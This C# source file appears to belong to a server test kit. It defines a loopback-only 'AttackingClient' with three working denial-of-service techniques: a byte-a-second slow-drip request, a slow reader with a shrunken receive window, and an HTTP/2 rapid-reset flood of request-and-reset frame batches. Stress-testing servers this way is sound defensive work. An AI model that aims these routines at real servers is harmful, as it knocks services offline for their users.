using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Canary.TestKit.Raw;

/// <summary>One connection to a port of 127.0.0.1 that costs the other side more than it costs the client.</summary>
public static class AttackingClient
{
    private const int SmallWindow = 4096;
    private const int Batch = 50;
    private const int StreamAt = 5;
    private static readonly TimeSpan Second = TimeSpan.FromSeconds(1);

    /// <summary>Sends the beginning of a request and then a byte a second, until the other side has had enough.</summary>
    public static async Task DripAsync(int port, string beginning, CancellationToken cancellation)
    {
        using var socket = await ConnectAsync(port, cancellation);
        var gone = UntilGoneAsync(socket, cancellation);
        for (var next = beginning; !gone.IsCompleted && await SendAsync(socket, Encoding.ASCII.GetBytes(next), cancellation); next = "a")
        {
            await Task.WhenAny(gone, Task.Delay(Second, cancellation));
        }
    }

    /// <summary>Asks, and reads a hundred bytes of the answer a second.</summary>
    /// <param name="port">Where to.</param>
    /// <param name="path">What has a long answer.</param>
    /// <param name="seconds">For how long; the end of the connection is seen behind all that is buffered only.</param>
    /// <param name="cancellation">Ends it.</param>
    public static async Task ReadSlowlyAsync(int port, string path, int seconds, CancellationToken cancellation)
    {
        using var socket = await ConnectAsync(port, cancellation, SmallWindow);
        await SendAsync(socket, Encoding.ASCII.GetBytes($"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"), cancellation);
        var buffer = new byte[100];
        for (var i = 0; i < seconds && await ReceiveAsync(socket, buffer, cancellation) > 0; i++)
        {
            await Task.Delay(Second, cancellation);
        }
    }

    /// <summary>Sends requests of HTTP/2 and takes each back at once, as fast as they are taken, until the other side has had enough.</summary>
    /// <param name="port">Where HTTP/2 by prior knowledge is spoken.</param>
    /// <param name="path">What is asked for.</param>
    /// <param name="sent">Told how many were sent.</param>
    /// <param name="cancellation">Ends it.</param>
    public static async Task ResetAsync(int port, string path, Action<int> sent, CancellationToken cancellation)
    {
        using var socket = await ConnectAsync(port, cancellation);
        var gone = UntilGoneAsync(socket, cancellation);
        byte[] settings = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. new Http2Frame(Http2FrameType.Settings, 0, 0, []).ToBytes()];
        if (!await SendAsync(socket, settings, cancellation))
        {
            return;
        }

        var (request, reset) = (Http2Wire.Request(1, "GET", path).ToBytes(), Http2Wire.Reset(1).ToBytes());
        byte[] pair = [.. request, .. reset];
        byte[] batch = [.. Enumerable.Repeat(pair, Batch).SelectMany(bytes => bytes)];
        for (var stream = 1; stream < int.MaxValue - (2 * Batch) && !gone.IsCompleted; stream += 2 * Batch)
        {
            for (var i = 0; i < Batch; i++)
            {
                BinaryPrimitives.WriteInt32BigEndian(batch.AsSpan((i * pair.Length) + StreamAt), stream + (2 * i));
                BinaryPrimitives.WriteInt32BigEndian(batch.AsSpan((i * pair.Length) + request.Length + StreamAt), stream + (2 * i));
            }

            if (!await SendAsync(socket, batch, cancellation))
            {
                return;
            }

            sent(Batch);
            await Task.Yield();
        }
    }

    private static async Task<Socket> ConnectAsync(int port, CancellationToken cancellation, int window = 0)
    {
        var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        if (window > 0)
        {
            socket.ReceiveBufferSize = window;
        }

        await socket.ConnectAsync(IPAddress.Loopback, port, cancellation);
        return socket;
    }

    private static async Task<bool> SendAsync(Socket socket, byte[] bytes, CancellationToken cancellation)
    {
        try
        {
            for (var rest = bytes.AsMemory(); rest.Length > 0;)
            {
                rest = rest[await socket.SendAsync(rest, cancellation)..];
            }

            return true;
        }
        catch (SocketException)
        {
            return false;
        }
    }

    private static async Task<int> ReceiveAsync(Socket socket, byte[] buffer, CancellationToken cancellation)
    {
        try
        {
            return await socket.ReceiveAsync(buffer, cancellation);
        }
        catch (SocketException)
        {
            return 0;
        }
    }

    private static async Task UntilGoneAsync(Socket socket, CancellationToken cancellation)
    {
        var buffer = new byte[SmallWindow];
        try
        {
            while (await ReceiveAsync(socket, buffer, cancellation) > 0)
            {
                // What it says does not matter.
            }
        }
        catch (Exception e) when (e is OperationCanceledException or ObjectDisposedException)
        {
            // The attack is over.
        }
    }
}
